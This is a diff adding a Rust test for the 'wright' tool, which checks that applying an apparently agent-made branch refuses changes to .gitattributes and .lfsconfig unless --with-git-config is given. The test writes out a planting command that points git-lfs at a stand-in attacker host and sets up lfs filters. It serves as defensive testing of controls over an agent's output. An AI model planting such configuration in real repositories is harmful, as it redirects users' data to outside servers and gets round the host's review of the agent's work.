@@ -316,3 +316,33 @@ echo x > f && git add f && git commit -qm init && mkdir -p deep/er && git init -
     assert_ne!(applied.status.code(), Some(0), "{}", stderr(&applied));
     outside.assert_untouched();
 }
+
+/// A branch that changes what configures git or git-lfs (`.gitattributes`, `.lfsconfig`)
+/// makes the host's merge run the user's filters and drivers on files the agent chose, and
+/// git-lfs talk to a server of its choosing: `wright apply` takes it only when told to.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn apply_asks_before_taking_git_configuration() {
+    let h = Harness::new();
+    failing_python_repo(h.repo());
+    let plant = "printf '[lfs]\\n\\turl = http://attacker.invalid/lfs\\n' > .lfsconfig && echo '* filter=lfs diff=lfs merge=lfs' > .gitattributes && echo fixed >> export.py && echo planted";
+    let output = plant_then_finish(&h, plant, "configure lfs", &[]).await;
+    assert!(output.status.success(), "{}", stderr(&output));
+    assert!(
+        stdout(&output).contains("note: it changes .gitattributes, .lfsconfig"),
+        "{}",
+        stdout(&output)
+    );
+    let id = h.conversation_id();
+    let refused = h.wright(&["apply", &id], &[]).await;
+    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
+    let said = stderr(&refused);
+    assert!(
+        said.contains(".gitattributes") && said.contains(".lfsconfig"),
+        "{said}"
+    );
+    assert!(said.contains("--with-git-config"), "{said}");
+    assert!(!h.repo().join(".lfsconfig").exists(), "taken anyway");
+    let taken = h.wright(&["apply", &id, "--with-git-config"], &[]).await;
+    assert!(taken.status.success(), "{}", stderr(&taken));
+    assert!(h.repo().join(".lfsconfig").exists());
+}
